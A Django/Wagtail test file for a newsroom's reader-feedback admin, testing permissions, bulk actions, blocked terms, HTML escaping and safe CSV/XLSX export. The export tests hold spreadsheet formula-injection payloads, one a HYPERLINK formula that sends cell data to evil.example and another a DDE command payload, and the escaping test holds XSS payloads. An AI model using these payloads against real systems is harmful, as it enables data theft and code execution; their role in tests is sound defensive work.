"""The feedback section of the Wagtail admin, as staff use it over HTTP."""

import csv
import io
import re

from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.test import TestCase
from django.urls import NoReverseMatch, reverse
from openpyxl import load_workbook
from wagtail import hooks
from wagtail.models import GroupPagePermission

from core.models import Term
from feedback import lifecycle
from feedback.models import Feedback, FeedbackReply, Kind, State
from feedback.permissions import HANDLER_GROUP, grant_handler_permissions
from security.spreadsheet import is_formula_character, safe_cell
from tests.articles.factories import ArticlePageFactory, ColumnPageFactory
from tests.core.factories import UserFactory
from tests.feedback.factories import FeedbackFactory, handler, walk_to
from tests.home.factories import get_home_page

LIST_URL = reverse("wagtailsnippets_feedback_feedback:list")


def edit_url(item):
    return reverse("wagtailsnippets_feedback_feedback:edit", args=[item.pk])


def bulk_url(action, items):
    ids = "&".join(f"id={item.pk}" for item in items)
    return (
        reverse(
            "wagtail_bulk_action", args=["feedback", "feedback", f"feedback_{action}"]
        )
        + f"?{ids}&next={LIST_URL}"
    )


def column_editor(column, **fields):
    """An editor who may edit one column's pages (and use the admin)."""
    group, _ = Group.objects.get_or_create(name=f"编辑-{column.slug}")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    GroupPagePermission.objects.get_or_create(
        group=group,
        page=column,
        permission=Permission.objects.get(codename="change_page"),
    )
    user = UserFactory(**fields)
    user.groups.add(group)
    return user


class AdminTestCase(TestCase):
    @classmethod
    def setUpTestData(cls):
        home = get_home_page()
        cls.column = ColumnPageFactory(parent=home, title="民生观察", slug="minsheng")
        cls.other_column = ColumnPageFactory(
            parent=home, title="基层笔谈", slug="jiceng"
        )
        cls.article = ArticlePageFactory(parent=cls.column, title="加装电梯")
        cls.other_article = ArticlePageFactory(
            parent=cls.other_column, title="村务公开"
        )
        cls.handler = handler(username="handler", email="handler@example.com")

    def setUp(self):
        self.client.force_login(self.handler)

    def item(self, state=State.SUBMITTED, article=None, **fields):
        item = FeedbackFactory(article=article or self.article, **fields)
        return walk_to(item, state, self.handler)


class QueueAccessTests(AdminTestCase):
    def test_handler_sees_every_column_in_the_queue(self):
        mine = self.item(message="电梯噪音")
        theirs = self.item(article=self.other_article, message="村务公开栏")

        response = self.client.get(LIST_URL)

        self.assertContains(response, "电梯噪音")
        self.assertContains(response, "村务公开栏")
        self.assertContains(response, edit_url(mine))
        self.assertContains(response, edit_url(theirs))

    def test_editor_sees_only_the_columns_they_edit(self):
        self.item(message="电梯噪音")
        self.item(article=self.other_article, message="村务公开栏")
        self.client.force_login(column_editor(self.column))

        response = self.client.get(LIST_URL)

        self.assertContains(response, "电梯噪音")
        self.assertNotContains(response, "村务公开栏")

    def test_editor_cannot_open_another_columns_item(self):
        theirs = self.item(article=self.other_article)
        self.client.force_login(column_editor(self.column))

        # An item the editor may not see does not exist for them.
        self.assertEqual(self.client.get(edit_url(theirs)).status_code, 404)
        response = self.client.post(edit_url(theirs), {"action": "accept"})
        self.assertEqual(response.status_code, 404)
        self.assertEqual(Feedback.objects.get().state, State.SUBMITTED)

    def test_editor_does_not_see_contact_details(self):
        item = self.item(contact="reader-phone@example.com")
        self.client.force_login(column_editor(self.column))

        response = self.client.get(edit_url(item))

        self.assertEqual(response.status_code, 200)
        self.assertNotContains(response, "reader-phone@example.com")
        self.assertContains(response, "仅反馈处理员可见")

    def test_handler_sees_contact_details(self):
        item = self.item(contact="reader-phone@example.com")

        self.assertContains(self.client.get(edit_url(item)), "reader-phone@example.com")

    def test_staff_without_feedback_rights_are_refused(self):
        writer = UserFactory()
        writer.groups.add(Group.objects.get_or_create(name="撰稿人")[0])
        writer.user_permissions.add(Permission.objects.get(codename="access_admin"))
        self.client.force_login(writer)

        # Wagtail answers PermissionDenied with a redirect to the dashboard.
        self.assertIn(self.client.get(LIST_URL).status_code, (302, 403))
        self.assertEqual(self.client.get(edit_url(self.item())).status_code, 404)

    def test_newsroom_setup_is_told_the_handler_permissions(self):
        granted = {}
        for hook in hooks.get_hooks("register_newsroom_role_permissions"):
            for role, names in hook().items():
                granted.setdefault(role, []).extend(names)

        self.assertIn("feedback.view_feedback_contact", granted[HANDLER_GROUP])
        self.assertIn("wagtailadmin.access_admin", granted[HANDLER_GROUP])

    def test_there_is_no_snippet_chooser_listing_every_column(self):
        with self.assertRaises(NoReverseMatch):
            reverse("wagtailsnippetchoosers_feedback_feedback:choose")

    def test_nobody_adds_feedback_in_the_admin(self):
        self.client.force_login(UserFactory(is_superuser=True, is_staff=True))

        response = self.client.get(reverse("wagtailsnippets_feedback_feedback:add"))

        self.assertIn(response.status_code, (302, 403))

    def test_handler_group_permissions_are_granted_idempotently(self):
        grant_handler_permissions()
        grant_handler_permissions()

        codenames = set(
            Group.objects.get(name=HANDLER_GROUP).permissions.values_list(
                "codename", flat=True
            )
        )
        self.assertTrue(
            {
                "view_feedback",
                "change_feedback",
                "view_feedback_contact",
                "export_feedback",
                "access_admin",
            }
            <= codenames
        )
        self.assertNotIn("change_page", codenames)


class QueueFilterTests(AdminTestCase):
    def listed(self, **params):
        response = self.client.get(LIST_URL, params)
        self.assertEqual(response.status_code, 200)
        return {item.pk for item in response.context["object_list"]}

    def test_filters_by_state_kind_column_article_and_overdue(self):
        submitted = self.item(message="新来的投诉")
        accepted = self.item(State.ACCEPTED)
        comment = self.item(kind=Kind.COMMENT)
        elsewhere = self.item(article=self.other_article)
        overdue = self.item()
        Feedback.objects.filter(pk=overdue.pk).update(accept_due="2020-01-01T00:00Z")

        self.assertEqual(self.listed(state="accepted"), {accepted.pk})
        self.assertEqual(self.listed(kind="comment"), {comment.pk})
        self.assertEqual(self.listed(column=self.other_column.pk), {elsewhere.pk})
        self.assertEqual(
            self.listed(article=self.article.pk),
            {submitted.pk, accepted.pk, comment.pk, overdue.pk},
        )
        self.assertEqual(self.listed(overdue="yes"), {overdue.pk})

    def test_filters_reported_items(self):
        reported = self.item(State.PUBLISHED, kind=Kind.COMMENT)
        self.item(State.PUBLISHED, kind=Kind.COMMENT)
        Feedback.objects.filter(pk=reported.pk).update(report_count=2)

        self.assertEqual(self.listed(reported="yes"), {reported.pk})

    def test_search_finds_text_inside_chinese_and_tracking_codes(self):
        wanted = self.item(message="小区门口的路灯坏了")
        self.item(message="公交站牌")

        self.assertEqual(self.listed(q="路灯"), {wanted.pk})
        self.assertEqual(self.listed(q=wanted.tracking_code), {wanted.pk})

    def test_no_filter_is_active_until_staff_choose_one(self):
        response = self.client.get(LIST_URL)

        self.assertEqual(response.context["view"].active_filters, [])

    def test_overdue_items_are_flagged_in_the_list(self):
        overdue = self.item()
        Feedback.objects.filter(pk=overdue.pk).update(accept_due="2020-01-01T00:00Z")

        self.assertContains(self.client.get(LIST_URL), "逾期")


class HideNeedsAReasonTests(AdminTestCase):
    """Hiding changes what readers see: like 精选, 置顶 and delete, it needs a
    reason, kept in the history."""

    def test_the_lifecycle_refuses_to_hide_without_a_reason(self):
        comment = self.item(State.PUBLISHED, kind=Kind.COMMENT)
        submitted = self.item(kind=Kind.COMMENT)
        answered = self.item(State.REPLIED)
        lifecycle.publish(answered, self.handler)
        for item in (comment, submitted, answered):
            with self.subTest(item=item.get_state_display()):
                with self.assertRaises(lifecycle.TransitionNotAllowed):
                    lifecycle.hide(item, self.handler, " ")
                item.refresh_from_db()
                self.assertFalse(item.events.filter(action="hide").exists())
        self.assertTrue(comment.is_public and answered.is_public)

    def test_the_item_view_asks_for_the_reason_and_keeps_the_form(self):
        comment = self.item(State.PUBLISHED, kind=Kind.COMMENT)

        response = self.client.post(edit_url(comment), {"action": "hide", "reason": ""})

        self.assertEqual(response.status_code, 400)
        self.assertContains(response, "请填写理由", status_code=400)
        self.assertContains(response, "请按提示修改后再提交", status_code=400)
        comment.refresh_from_db()
        self.assertEqual((comment.state, comment.is_public), (State.PUBLISHED, True))
        self.assertFalse(comment.events.filter(action="hide").exists())

        self.client.post(edit_url(comment), {"action": "hide", "reason": "与文章无关"})

        comment.refresh_from_db()
        self.assertEqual((comment.state, comment.is_public), (State.HIDDEN, False))
        event = comment.events.get(action="hide")
        self.assertEqual((event.actor, event.reason), (self.handler, "与文章无关"))


class BulkActionTests(AdminTestCase):
    def test_bulk_accept_skips_items_whose_state_does_not_allow_it(self):
        fresh = [self.item(), self.item()]
        closed = self.item(State.CLOSED)

        response = self.client.post(bulk_url("accept", [*fresh, closed]))

        self.assertEqual(response.status_code, 302)
        states = dict(Feedback.objects.values_list("pk", "state"))
        self.assertEqual(states[fresh[0].pk], State.ACCEPTED)
        self.assertEqual(states[fresh[1].pk], State.ACCEPTED)
        self.assertEqual(states[closed.pk], State.CLOSED)

    def test_bulk_spam_publish_and_hide(self):
        spam = self.item(kind=Kind.COMMENT)
        comments = [self.item(kind=Kind.COMMENT), self.item(kind=Kind.COMMENT)]

        self.client.post(bulk_url("spam", [spam]))
        self.client.post(bulk_url("publish", comments))
        self.client.post(bulk_url("hide", comments[:1]), {"reason": "与文章无关"})

        states = dict(Feedback.objects.values_list("pk", "state"))
        self.assertEqual(states[spam.pk], State.SPAM)
        self.assertEqual(states[comments[0].pk], State.HIDDEN)
        self.assertEqual(states[comments[1].pk], State.PUBLISHED)
        hidden = comments[0].events.get(action="hide")
        self.assertEqual((hidden.actor, hidden.reason), (self.handler, "与文章无关"))

    def test_bulk_hide_needs_a_reason(self):
        comments = [self.item(State.PUBLISHED, kind=Kind.COMMENT) for _ in range(2)]

        page = self.client.get(bulk_url("hide", comments))
        refused = self.client.post(bulk_url("hide", comments), {"reason": "  "})

        self.assertContains(page, 'name="reason"')
        self.assertEqual(refused.status_code, 200)
        self.assertContains(refused, "请填写理由")
        self.assertEqual(
            set(Feedback.objects.values_list("state", flat=True)), {State.PUBLISHED}
        )

    def test_bulk_action_asks_for_confirmation_first(self):
        item = self.item()

        response = self.client.get(bulk_url("accept", [item]))

        self.assertContains(response, "确定对以下 1 条反馈执行")
        self.assertEqual(Feedback.objects.get().state, State.SUBMITTED)

    def test_the_queue_offers_the_feedback_actions_and_no_delete(self):
        self.item()
        delete = reverse("wagtail_bulk_action", args=["feedback", "feedback", "delete"])

        html = self.client.get(LIST_URL).content.decode()

        for action in ["accept", "spam", "publish", "hide"]:
            self.assertIn(bulk_url(action, []).split("?")[0], html)
        self.assertNotIn(delete, html)

    def test_nobody_deletes_feedback_in_the_admin_not_even_a_superuser(self):
        item = self.item(State.SPAM, kind=Kind.COMMENT)
        self.client.force_login(UserFactory(is_superuser=True, is_staff=True))
        delete = reverse("wagtail_bulk_action", args=["feedback", "feedback", "delete"])

        page = self.client.get(f"{delete}?id={item.pk}")
        self.client.post(f"{delete}?id={item.pk}")
        self.client.post(
            reverse("wagtailsnippets_feedback_feedback:delete", args=[item.pk])
        )

        self.assertContains(page, "读者反馈不能在后台删除")
        self.assertNotContains(page, "是的，删除")
        self.assertTrue(Feedback.objects.filter(pk=item.pk).exists())

    def test_ids_that_are_not_ids_select_nothing(self):
        item = self.item()
        for ids in ["abc", "²", "1" * 40, "all", "", f"{item.pk}.0"]:
            with self.subTest(ids=ids):
                response = self.client.get(
                    reverse(
                        "wagtail_bulk_action",
                        args=["feedback", "feedback", "feedback_accept"],
                    ),
                    {"id": ids},
                )
                self.assertEqual(response.status_code, 404)

    def test_editor_bulk_action_leaves_other_columns_alone(self):
        mine = self.item()
        theirs = self.item(article=self.other_article)
        self.client.force_login(column_editor(self.column))

        self.client.post(bulk_url("accept", [mine, theirs]))

        states = dict(Feedback.objects.values_list("pk", "state"))
        self.assertEqual(states[mine.pk], State.ACCEPTED)
        self.assertEqual(states[theirs.pk], State.SUBMITTED)


class ItemViewTests(AdminTestCase):
    def test_item_view_shows_history_and_only_allowed_actions(self):
        item = self.item(State.ACCEPTED)

        response = self.client.get(edit_url(item))

        html = response.content.decode()
        self.assertIn("处理记录", html)
        self.assertIn('value="assign"', html)
        self.assertIn('value="reply"', html)
        self.assertNotIn('value="accept"', html)

    def test_reply_is_signed_recorded_and_mailed_to_the_reader(self):
        item = self.item(State.IN_PROGRESS, contact="reader@example.com")

        with self.captureOnCommitCallbacks(execute=True):
            response = self.client.post(
                edit_url(item),
                {
                    "action": "reply",
                    "body": "已联系街道，本周内修好。",
                    "signature_name": "苏一禾",
                    "signature_role": "反馈处理员",
                },
            )

        self.assertRedirects(response, edit_url(item))
        item.refresh_from_db()
        self.assertEqual(item.state, State.REPLIED)
        answer = item.replies.get()
        self.assertEqual(
            (answer.signature_name, answer.author), ("苏一禾", self.handler)
        )
        self.assertEqual(mail.outbox[-1].to, ["reader@example.com"])
        self.assertIn(item.tracking_token, mail.outbox[-1].body)
        self.assertIn("已联系街道", mail.outbox[-1].body)

    def test_a_reply_or_signature_with_a_blocked_term_is_refused_beside_the_field(
        self,
    ):
        Term.objects.create(text="赌博网站", level=Term.Level.BLOCKED)
        Term.objects.create(text="可疑说法", level=Term.Level.SUSPECT)
        item = self.item(State.IN_PROGRESS)
        reply = {
            "action": "reply",
            "body": "已联系街道，本周内修好。",
            "signature_name": "苏一禾",
            "signature_role": "反馈处理员",
        }
        # Disguised as readers disguise it: spaces, full width, Traditional.
        for field, text in [
            ("body", "已转交，另见 赌 博 网 站。"),
            ("signature_name", "ＸＸ賭博網站"),
            ("signature_role", "赌博网站编辑"),
        ]:
            with self.subTest(field=field):
                response = self.client.post(edit_url(item), {**reply, field: text})

                self.assertEqual(response.status_code, 400)
                form = response.context["forms"]["reply"]
                self.assertEqual(list(form.errors), [field])
                self.assertIn("含有禁用词「赌博网站」", form.errors[field][0])
                self.assertContains(response, "含有禁用词", status_code=400)
                self.assertContains(response, text.strip(), status_code=400)
                self.assertFalse(FeedbackReply.objects.exists())
                self.assertEqual(Feedback.objects.get().state, State.IN_PROGRESS)

        response = self.client.post(edit_url(item), {**reply, "body": "可疑说法"})
        self.assertEqual(response.status_code, 302)

    def test_the_lifecycle_refuses_a_reply_with_a_blocked_term_from_any_caller(self):
        Term.objects.create(text="赌博网站", level=Term.Level.BLOCKED)
        item = self.item(State.IN_PROGRESS)

        for body, name, role in [
            ("赌博网站", "苏一禾", "编辑"),
            ("好的", "赌博网站", "编辑"),
            ("好的", "苏一禾", "赌博网站"),
        ]:
            with self.subTest(body=body, name=name, role=role):
                with self.assertRaisesMessage(
                    lifecycle.TransitionNotAllowed, "禁用词「赌博网站」"
                ):
                    lifecycle.reply(item, self.handler, body, name, role)
        self.assertFalse(FeedbackReply.objects.exists())

    def test_reply_form_is_prefilled_with_name_and_role(self):
        item = self.item(State.IN_PROGRESS)

        html = self.client.get(edit_url(item)).content.decode()

        self.assertIn('value="苏一禾"', html)
        self.assertIn(f'value="{HANDLER_GROUP}"', html)

    def test_empty_reply_comes_back_with_an_error(self):
        item = self.item(State.IN_PROGRESS)

        response = self.client.post(
            edit_url(item),
            {
                "action": "reply",
                "body": "",
                "signature_name": "苏",
                "signature_role": "编辑",
            },
        )

        self.assertEqual(response.status_code, 400)
        self.assertEqual(Feedback.objects.get().state, State.IN_PROGRESS)

    def test_assign_note_and_refused_steps(self):
        item = self.item(State.ACCEPTED)
        editor = column_editor(self.column, last_name="周", first_name="明哲")

        self.client.post(edit_url(item), {"action": "assign", "assignee": editor.pk})
        self.client.post(
            edit_url(item), {"action": "note", "text": "读者来电补充了地址"}
        )
        response = self.client.post(
            edit_url(item), {"action": "reject", "reason": "理由"}, follow=True
        )

        item.refresh_from_db()
        self.assertEqual((item.state, item.assignee), (State.IN_PROGRESS, editor))
        self.assertContains(response, "不能不予受理")
        self.assertContains(response, "读者来电补充了地址")

    def test_correction_drafts_a_correction_linked_to_a_revision(self):
        item = self.item(State.IN_PROGRESS, kind=Kind.CORRECTION)
        revision = self.article.save_revision(user=self.handler)

        self.client.post(
            edit_url(item),
            {"action": "correction", "revision": revision.pk, "note": "已更正日期。"},
        )

        item.refresh_from_db()
        self.assertEqual(item.correction.revision, revision)
        self.assertEqual(item.correction.text, "已更正日期。")
        # A draft until an approver of the column approves it (corrections/).
        self.assertFalse(item.correction.is_public)
        self.assertNotContains(self.client.get(self.article.url), "已更正日期。")

    def test_someone_outside_the_newsroom_cannot_be_assigned(self):
        item = self.item(State.ACCEPTED)
        outsider = UserFactory()

        response = self.client.post(
            edit_url(item), {"action": "assign", "assignee": outsider.pk}
        )

        self.assertEqual(response.status_code, 400)
        self.assertIsNone(Feedback.objects.get().assignee)

    def test_reject_without_reason_is_refused_with_a_message(self):
        item = self.item()

        response = self.client.post(edit_url(item), {"action": "reject", "reason": ""})

        # The form comes back with the error by the field.
        self.assertContains(response, "请填写理由", status_code=400)
        self.assertEqual(Feedback.objects.get().state, State.SUBMITTED)
        with self.assertRaisesMessage(lifecycle.TransitionNotAllowed, "需要填写理由"):
            lifecycle.reject(item, self.handler, " ")

    def test_user_text_is_escaped_in_the_admin(self):
        payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
        item = self.item(message=payload, display_name="<b>名</b>")
        lifecycle_note = '<a href="javascript:alert(3)">x</a>'
        self.client.post(edit_url(item), {"action": "note", "text": lifecycle_note})

        for url in (LIST_URL, edit_url(item)):
            html = self.client.get(url).content.decode()
            with self.subTest(url=url):
                self.assertNotIn("<script>alert(1)", html)
                self.assertNotIn("<img src=x", html)
                self.assertNotIn('href="javascript:alert(3)', html)
                self.assertNotIn("<b>名</b>", html)


class ExportTests(AdminTestCase):
    PAYLOADS = [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ]

    # What a spreadsheet may split a CSV cell at: the comma, a semicolon
    # (semicolon locales), a tab (tab-separated imports), a line break.
    SPLITS = re.compile(r"[,;\t\r\n]")
    LOOK_ALIKES = ["﹦", "＝", "⁼", "₌", "＋", "﹢", "⁺", "－", "﹣", "＠", "﹫"]

    def assert_no_piece_starts_a_formula(self, cell):
        for piece in self.SPLITS.split(cell):
            self.assertFalse(is_formula_character(piece.lstrip()[:1]), (cell, piece))

    def test_formula_starts_get_an_apostrophe(self):
        for payload in self.PAYLOADS:
            for spreadsheet_format in ("csv", "xlsx"):
                with self.subTest(payload=payload, format=spreadsheet_format):
                    cell = safe_cell(payload, spreadsheet_format)
                    self.assertTrue(cell.startswith("'"), cell)
                    self.assertEqual(cell.replace("'", ""), payload.replace("'", ""))
                    if spreadsheet_format == "xlsx":
                        self.assertEqual(cell, f"'{payload}")

    def test_formula_look_alikes_are_treated_like_their_ascii_forms(self):
        for look_alike in self.LOOK_ALIKES:
            for spreadsheet_format in ("csv", "xlsx"):
                with self.subTest(look_alike=look_alike, format=spreadsheet_format):
                    payload = f"{look_alike}1+1"
                    self.assertEqual(
                        safe_cell(payload, spreadsheet_format), f"'{payload}"
                    )
                    self.assertEqual(
                        safe_cell(f"  {payload}", spreadsheet_format), f"'  {payload}"
                    )

    def test_a_formula_after_a_separator_inside_a_csv_cell_is_escaped(self):
        for separator in [",", ";", "\t", "\r", "\n", "; ", ",\n"]:
            for start in ["=", "+", "-", "@", *self.LOOK_ALIKES]:
                payload = f"总结{separator}{start}1+1{separator}{separator}{start}2"
                with self.subTest(payload=payload):
                    cell = safe_cell(payload, "csv")
                    self.assert_no_piece_starts_a_formula(cell)
                    self.assertEqual(cell.replace("'", ""), payload)
                    self.assertEqual(safe_cell(cell, "csv"), cell)

    def test_safe_cells_leave_ordinary_text_alone(self):
        for text in ["普通文字，没有公式", "a-b, c+d", "邮箱 a@b.cn", "3-2=1", ""]:
            with self.subTest(text=text):
                self.assertEqual(safe_cell(text, "csv"), text)
                self.assertEqual(safe_cell(text, "xlsx"), text)

    def test_phone_numbers_stay_readable(self):
        phone = "+86 138 0013 8000"
        self.assertEqual(safe_cell(phone, "xlsx"), phone)
        self.assertEqual(safe_cell(phone, "csv"), "'+86 138 0013 8000")
        self.assertEqual(safe_cell("138-0013-8000", "csv"), "138-0013-8000")
        self.assertEqual(safe_cell("普通文字", "csv"), "普通文字")

    def export_rows(self, spreadsheet_format, **params):
        response = self.client.get(LIST_URL, {"export": spreadsheet_format, **params})
        self.assertEqual(response.status_code, 200)
        if spreadsheet_format == "csv":
            text = b"".join(response.streaming_content).decode("utf-8-sig")
            return list(csv.reader(io.StringIO(text)))
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet

    def test_csv_export_escapes_formulas_and_keeps_phone_digits(self):
        self.item(message=self.PAYLOADS[0], contact="+86 138 0013 8000")

        header, row = self.export_rows("csv")

        message = row[header.index("内容")]
        contact = row[header.index("联系方式")]
        self.assertEqual(message, "'" + self.PAYLOADS[0])
        self.assertEqual(contact, "'+86 138 0013 8000")

    def test_xlsx_export_has_no_formula_cells_and_phones_verbatim(self):
        self.item(message="=1+1", display_name="@SUM(A1)", contact="+86 138 0013 8000")

        rows, sheet = self.export_rows("xlsx")

        header, row = rows[0], rows[1]
        self.assertEqual(row[header.index("内容")], "'=1+1")
        self.assertEqual(row[header.index("署名")], "'@SUM(A1)")
        self.assertEqual(row[header.index("联系方式")], "+86 138 0013 8000")
        for cells in sheet.iter_rows(min_row=2):
            for cell in cells:
                self.assertNotEqual(cell.data_type, "f")

    def csv_body(self) -> bytes:
        response = self.client.get(LIST_URL, {"export": "csv"})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        return b"".join(response.streaming_content)

    def test_csv_starts_with_a_byte_order_mark_for_excel_on_chinese_windows(self):
        self.item(message="路灯坏了")

        body = self.csv_body()

        self.assertTrue(body.startswith(b"\xef\xbb\xbf"))
        self.assertIn("路灯坏了", body.decode("utf-8-sig"))

    def test_csv_read_with_any_separator_starts_no_formula(self):
        self.item(
            message="总结;=1+1\t=HYPERLINK(1)\n-2+3,@SUM(1)",
            display_name="a\t﹦1+1",
            contact="x;+86 138 0013 8000",
        )

        text = self.csv_body().decode("utf-8-sig")

        # Comma (the file's own separator), semicolon locales, tab-separated
        # imports: quotes honoured or not, no cell starts a formula.
        for delimiter in [",", ";", "\t"]:
            for quoting in [csv.QUOTE_MINIMAL, csv.QUOTE_NONE]:
                reader = csv.reader(
                    io.StringIO(text), delimiter=delimiter, quoting=quoting
                )
                for row in reader:
                    for cell in row:
                        with self.subTest(delimiter=delimiter, cell=cell):
                            self.assertFalse(
                                is_formula_character(cell.strip('" ')[:1]), cell
                            )
        header, row = list(csv.reader(io.StringIO(text)))
        self.assertEqual(
            row[header.index("内容")], "总结;'=1+1\t'=HYPERLINK(1)\n'-2+3,'@SUM(1)"
        )

    def test_xlsx_writes_every_string_as_text_and_survives_control_characters(self):
        self.item(message="﹦1+1\x0b第二行\x1f", display_name="=1+1")

        rows, sheet = self.export_rows("xlsx")

        header, row = rows[0], rows[1]
        self.assertEqual(row[header.index("内容")], "'﹦1+1\ufffd第二行\ufffd")
        for cells in sheet.iter_rows(min_row=2):
            for cell in cells:
                if isinstance(cell.value, str):
                    self.assertEqual(cell.data_type, "s", cell.value)

    def test_export_follows_the_filters(self):
        self.item(message="留下")
        self.item(State.ACCEPTED, message="滤掉")

        header, *rows = self.export_rows("csv", state="submitted")

        self.assertEqual([row[header.index("内容")] for row in rows], ["留下"])

    def test_export_without_the_contact_permission_leaves_contacts_out(self):
        self.item(contact="reader@example.com")
        clerk = UserFactory()
        clerk.user_permissions.add(
            *Permission.objects.filter(
                codename__in=["access_admin", "view_feedback", "export_feedback"]
            )
        )
        self.client.force_login(clerk)

        header, row = self.export_rows("csv")

        self.assertNotIn("联系方式", header)
        self.assertNotIn("reader@example.com", ",".join(row))

    def test_export_needs_the_export_permission(self):
        self.item(contact="reader@example.com")
        editor = column_editor(self.column)
        self.client.force_login(editor)

        response = self.client.get(LIST_URL, {"export": "csv"})
        self.assertIn(response.status_code, (302, 403))
        self.assertNotIn("text/csv", response.get("Content-Type", ""))
        self.assertNotContains(self.client.get(LIST_URL), "export=csv")
